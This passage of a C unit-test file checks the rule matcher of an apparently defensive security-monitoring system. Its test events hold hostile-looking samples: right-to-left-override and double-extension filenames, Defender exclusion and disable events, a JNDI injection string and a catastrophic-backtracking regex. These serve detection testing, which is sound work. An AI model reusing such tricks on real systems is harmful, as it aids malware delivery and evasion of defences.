	    "host.name=WS1", "file.name=C:\\Users\\a\\invoice\xe2\x80\xae"
	    "fdp.scr" }, "1000211" },
	{ "deceptive download", SRC_PROXY, { HQ, GET,
	    "destination.domain=files.example.jp",
	    "url.original=http://files.example.jp/a/%E8%A6%8B.pdf.exe",
	    "url.path=/a/%E8%A6%8B.pdf.exe" }, "1000212" },
	{ "deceptive file over the network", SRC_NETWORK, {
	    "source.ip=10.1.2.3", "file.name=invoice.pdf          .exe" },
	    "1000212" },

	/* Mail and antivirus. */
	{ "mail infected", SRC_MAIL, { "source.ip=203.0.113.25",
	    "threat.category=INFECTED", "threat.name=Eicar-Signature",
	    "event.action=Blocked" }, "1000220" },
	{ "mail infected, milter", SRC_MAIL, { "threat.name=Win.Trojan.A-1",
	    "event.action=infected" }, "1000220" },
	{ "mail clean", SRC_MAIL, { "threat.category=CLEAN",
	    "event.action=Passed" }, "" },
	{ "mail banned", SRC_MAIL, { "threat.category=BANNED",
	    "file.name=.exe,.exe-ms,setup.exe" }, "1000221" },
	{ "mail banned, deceptive", SRC_MAIL, { "threat.category=BANNED",
	    "file.name=.exe,.exe-ms,\xe8\xa6\x8b.xlsxs.exe" }, "1000222" },
	{ "clamd found", SRC_ENDPOINT, { "host.name=mx1",
	    "event.action=found", "threat.name=Eicar-Signature",
	    "file.name=/tmp/a" }, "1000223" },
	{ "executable over SMTP from outside", SRC_NETWORK, {
	    "source.ip=203.0.113.25", "network.protocol=SMTP",
	    "file.mime_type=application/x-dosexec", "file.name=a" },
	    "1000224" },
	{ "macro document over SMTP from outside", SRC_NETWORK, {
	    "source.ip=203.0.113.25", "network.protocol=SMTP",
	    "file.name=order.xlsm" }, "1000224" },
	{ "executable over SMTP from inside", SRC_NETWORK, {
	    "source.ip=10.30.1.5", "network.protocol=SMTP",
	    "file.mime_type=application/x-dosexec" }, "" },
	{ "defender detection", SRC_ENDPOINT, { "winlog.event_id=1116",
	    "winlog.channel=Microsoft-Windows-Windows Defender/Operational",
	    "threat.name=Trojan:Win32/Wacatac.B!ml" }, "1000230" },
	{ "defender remediation failed", SRC_ENDPOINT, {
	    "winlog.event_id=1117",
	    "winlog.channel=Microsoft-Windows-Windows Defender/Operational",
	    "winlog.event_data.Status=0x80508023" }, "1000231" },
	{ "defender remediation done", SRC_ENDPOINT, {
	    "winlog.event_id=1117",
	    "winlog.channel=Microsoft-Windows-Windows Defender/Operational",
	    "winlog.event_data.Status=0x00000000" }, "" },
	{ "defender real-time protection off", SRC_ENDPOINT, {
	    "winlog.event_id=5001",
	    "winlog.channel=Microsoft-Windows-Windows Defender/Operational" },
	    "1000232" },
	{ "defender exclusion added", SRC_ENDPOINT, { "winlog.event_id=5007",
	    "winlog.channel=Microsoft-Windows-Windows Defender/Operational",
	    "registry.data.strings=HKLM\\SOFTWARE\\Microsoft\\Windows Defender"
	    "\\Exclusions\\Paths\\C:\\Temp = 0x0" }, "1000232" },
	{ "defender setting of no weight", SRC_ENDPOINT, {
	    "winlog.event_id=5007",
	    "winlog.channel=Microsoft-Windows-Windows Defender/Operational",
	    "registry.data.strings=HKLM\\SOFTWARE\\Microsoft\\Windows Defender"
	    "\\Signature Updates\\SignatureUpdateInterval = 0x4" }, "" },

	/* Suppressions. */
	{ "suppressed until", SRC_FIREWALL, { "source.ip=10.30.9.9",
	    "destination.ip=192.0.2.66", "destination.port=443",
	    "@time=1777593599000" }, "" },
	{ "suppression expired", SRC_FIREWALL, { "source.ip=10.30.9.9",
	    "destination.ip=192.0.2.66", "destination.port=443",
	    "@time=1777593600000" }, "1000004" },
	{ "suppressed endpoint", SRC_PROXY, { "source.ip=10.99.7.7", GET,
	    "destination.domain=update-check.badcdn.example" }, "" },
	{ "suppressed endpoint name", SRC_PROXY, { "source.ip=10.99.7.8",
	    "source.address=WS-Sinkhole", GET,
	    "destination.domain=update-check.badcdn.example" }, "" },
	{ "suppression other rule", SRC_PROXY, { "source.ip=10.99.7.7", GET,
	    "destination.domain=files.payload-host.test" }, "1000002" },
	{ "suppressed user", SRC_PROXY, { OUT, GET,
	    "user.name=CORP\\svc-scanner",
	    "destination.domain=files.payload-host.test" }, "" },
};

START_TEST(test_case)
{
	const struct mcase	*c = &cases[_i];

	ck_assert_msg(strcmp(run(c), c->expect) == 0, "%s: fired \"%s\", "
	    "expected \"%s\"", c->name, fired, c->expect);
}
END_TEST

/*
 * The same with the list answers loaded ahead of each event's turn, as
 * the pipeline does: the work ahead changes no finding and no count.
 */
START_TEST(test_case_ahead)
{
	struct match_stats	 st, want;
	size_t			 i, n = sizeof(cases) / sizeof(cases[0]);

	for (i = 0; i < n; i++)
		run(&cases[i]);
	match_stats(an, &want);
	teardown();
	setup();
	ahead = 1;
	for (i = 0; i < n; i++)
		ck_assert_msg(strcmp(run(&cases[i]), cases[i].expect) == 0,
		    "%s: fired \"%s\", expected \"%s\"", cases[i].name, fired,
		    cases[i].expect);
	ahead = 0;
	match_stats(an, &st);
	ck_assert_int_eq(memcmp(&st, &want, sizeof(st)), 0);
}
END_TEST

/* Every shipped match rule appears in some case that fires it. */
START_TEST(test_coverage)
{
	const struct rule	*r;
	size_t			 i, j;
	int			 seen;

	for (i = 0; i < cfg->rs->nrules; i++) {
		r = cfg->rs->rules[i];
		if (strcmp(r->analyzer, "match") != 0)
			continue;
		seen = 0;
		for (j = 0; j < sizeof(cases) / sizeof(cases[0]); j++)
			if (strstr(cases[j].expect, r->id) != NULL)
				seen = 1;
		ck_assert_msg(seen, "rule %s is fired by no case", r->id);
	}
}
END_TEST

START_TEST(test_reason)
{
	run(&cases[0]);
	ck_assert_str_eq(reason, "");
	/* The country case: the analyzer writes the reason. */
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		if (strcmp(cases[i].name, "country") == 0)
			run(&cases[i]);
	ck_assert_str_eq(reason, "destination.geo.country_iso_code CN is "
	    "not among the usual countries of profile test-hq (jp, us).");
}
END_TEST

START_TEST(test_stats)
{
	struct match_stats	 st;
	size_t			 i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		run(&cases[i]);
	match_stats(an, &st);
	ck_assert_uint_eq(st.events, sizeof(cases) / sizeof(cases[0]));
	ck_assert_uint_eq(st.suppressed, 4);
	/* Most signatures never run: their literals are not there. */
	ck_assert_uint_gt(st.rules_skipped, 150);
	ck_assert_uint_eq(st.regex_limit, 0);
}
END_TEST

/*
 * An event scans only the fields whose literals gate a rule of its
 * kind: no shipped rule reads DHCP events with a regex, so a DHCP
 * event scans nothing, while a proxy event scans its URL.
 */
START_TEST(test_scan_kind)
{
	static const struct mcase	 dhcp = { "dhcp", SRC_DHCP, { OUT,
	    "user.name=alice", "url.original=http://a.test/${jndi:x}" },
	    "" };
	static const struct mcase	 proxy = { "proxy", SRC_PROXY, { OUT,
	    GET, "url.original=http://a.test/index.html" }, "" };
	struct prefilter_stats		 a, b;

	prefilter_stats(cfg->rs->pf, &a);
	ck_assert_str_eq(run(&dhcp), "");
	prefilter_stats(cfg->rs->pf, &b);
	ck_assert_uint_eq(b.scans, a.scans);
	ck_assert_str_eq(run(&proxy), "");
	prefilter_stats(cfg->rs->pf, &a);
	ck_assert_uint_gt(a.scans, b.scans);
}
END_TEST

/*
 * A rule that tests a profile key is not evaluated for an endpoint
 * whose profile lacks it; the profile is the event's own, not the
 * previous event's.
 */
START_TEST(test_unprofiled)
{
	static const struct mcase	 out = { "country out", SRC_PROXY,
	    { OUT, GET, "destination.ip=203.0.113.9",
	    "destination.domain=cn.example", "destination.port=443" }, "" };
	const struct mcase		*hq = NULL;
	struct match_stats		 a, b;
	size_t				 i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		if (strcmp(cases[i].name, "country") == 0)
			hq = &cases[i];
	ck_assert_ptr_nonnull(hq);
	match_stats(an, &a);
	ck_assert_str_eq(run(&out), "");
	match_stats(an, &b);
	/* The default profile declares connect-ports alone. */
	ck_assert_uint_ge(b.rules_unprofiled - a.rules_unprofiled, 8);
	ck_assert_str_eq(run(hq), "1000101");
	match_stats(an, &a);
	ck_assert_uint_eq(a.rules_unprofiled, b.rules_unprofiled);
	ck_assert_str_eq(run(&out), "");
	ck_assert_str_eq(run(hq), "1000101");
}
END_TEST

/*
 * With the shipped rules alone, only the default profile declares a
 * key (connect-ports): the eight other not-normal-business rules of a
 * proxy line that need a key (1000106 only exempts by one) are left
 * out of every event, and counted as such.
 */
START_TEST(test_never)
{
	static const struct mcase	 ev = { "country out", SRC_PROXY,
	    { OUT, GET, "destination.ip=203.0.113.9",
	    "destination.domain=cn.example", "destination.port=8081" }, "" };
	static const struct mcase	 connect = { "connect", SRC_PROXY,
	    { OUT, "http.request.method=CONNECT",
	    "destination.domain=cn.example", "destination.port=8081" },
	    "1000107" };
	struct match_stats		 st;

	/* The test profile names networks; the shipped default does not. */
	ck_assert_int_eq(profiles_by_address(cfg->rs->profiles), 1);
	teardown();
	load(0);
	ck_assert_int_eq(profiles_by_address(cfg->rs->profiles), 0);
	ck_assert_str_eq(run(&ev), "");
	match_stats(an, &st);
	ck_assert_uint_eq(st.events, 1);
	ck_assert_uint_eq(st.rules_unprofiled, 8);
	ck_assert_str_eq(run(&connect), "1000107");
	match_stats(an, &st);
	ck_assert_uint_eq(st.rules_unprofiled, 16);
}
END_TEST

/*
 * A rule that fires is walked twice (the truth, then its indicator):
 * what the first walk counted, a regex cut by its limit and a regex the
 * prefilter saved, is counted once, not once a walk.
 */
START_TEST(test_count_once)
{
	static const char	 rules[] =
	    "ruleset \"once\"\n"
	    "rule 9000001 {\n\tname \"limit\"\n\tanalyzer match\n"
	    "\tsources proxy\n\tviewpoint known-attack\n\tstage intrusion\n"
	    "\tcondition url.original contains \"/once\" and "
	    "user_agent.original !~ \"(a+)+$\"\n}\n"
	    "rule 9000002 {\n\tname \"skipped\"\n\tanalyzer match\n"
	    "\tsources proxy\n\tviewpoint known-attack\n\tstage intrusion\n"
	    "\tcondition url.original contains \"/once\" and "
	    "(url.original ~ \"zzqq[0-9]+\" or user.name == alice)\n}\n";
	static const struct mcase	 ev = { "once", SRC_PROXY, { OUT, GET,
	    "url.original=http://a.test/once", "user.name=alice",
	    "user_agent.original=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!" },
	    "9000001 9000002" };
	struct match_stats		 st;

	teardown();
	load_text(rules);
	ck_assert_str_eq(run(&ev), ev.expect);
	match_stats(an, &st);
	ck_assert_uint_eq(st.hits, 2);
	ck_assert_uint_eq(st.regex_limit, 1);
	ck_assert_uint_eq(st.regex_skipped, 1);
	ck_assert_str_eq(run(&ev), ev.expect);
	match_stats(an, &st);
	ck_assert_uint_eq(st.regex_limit, 2);
	ck_assert_uint_eq(st.regex_skipped, 2);
}
END_TEST

/*
 * The analyzer keeps list answers from line to line (lcache.h): a
 * reload that replaces a list must forget them, even when the new list
 * takes the freed memory of an old one with other entries.  Rule sets
 * that name a.example, then b.example, in turns, each loaded while the
 * one before runs and that one freed after, as the daemon does.
 */
START_TEST(test_reload_forgets)
{
	static const char	 fmt[] =
	    "ruleset \"reload\"\n"
	    "list bl {\n\tfile \"%s\"\n\tformat plain\n\ttype domain\n}\n"
	    "rule 9000001 {\n\tname \"listed\"\n\tanalyzer match\n"
	    "\tsources proxy\n\tviewpoint known-attack\n\tstage c2\n"
	    "\tcondition destination.domain in list bl\n}\n";
	static const struct mcase	 a = { "a", SRC_PROXY, { OUT, GET,
	    "destination.domain=www.a.example" }, NULL };
	static const struct mcase	 b = { "b", SRC_PROXY, { OUT, GET,
	    "destination.domain=www.b.example" }, NULL };
	char			 la[4096], lb[4096], text[16384];
	struct config		*next;
	int			 i, isa;

	write_tmp(la, sizeof(la), "a.example\n");
	write_tmp(lb, sizeof(lb), "b.example\n");
	teardown();
	snprintf(text, sizeof(text), fmt, la);
	load_text(text);
	for (i = 0; i < 12; i++) {
		/* a a b b a a ...: a reused address meets the other list. */
		isa = (i / 2) % 2 == 0;
		if (i > 0) {
			snprintf(text, sizeof(text), fmt, isa ? la : lb);
			next = config_text(text);
			ck_assert_int_eq(analyzer_match.reload(an, next->rs), 0);
			config_free(cfg);
			cfg = next;
		}
		ck_assert_str_eq(run(&a), isa ? "9000001" : "");
		ck_assert_str_eq(run(&b), isa ? "" : "9000001");
		ck_assert_str_eq(run(&a), isa ? "9000001" : "");
	}
	unlink(la);
	unlink(lb);
}
END_TEST

static Suite *
match_suite(void)
{
	Suite	*s = suite_create("match");
	TCase	*tc = tcase_create("shipped-rules");

	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_loop_test(tc, test_case, 0, sizeof(cases) / sizeof(cases[0]));
	tcase_add_test(tc, test_coverage);
	tcase_add_test(tc, test_case_ahead);
	tcase_add_test(tc, test_reason);
	tcase_add_test(tc, test_stats);
	tcase_add_test(tc, test_scan_kind);
	tcase_add_test(tc, test_unprofiled);
	tcase_add_test(tc, test_never);
	tcase_add_test(tc, test_count_once);
	tcase_add_test(tc, test_reload_forgets);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return test_main(match_suite());
}
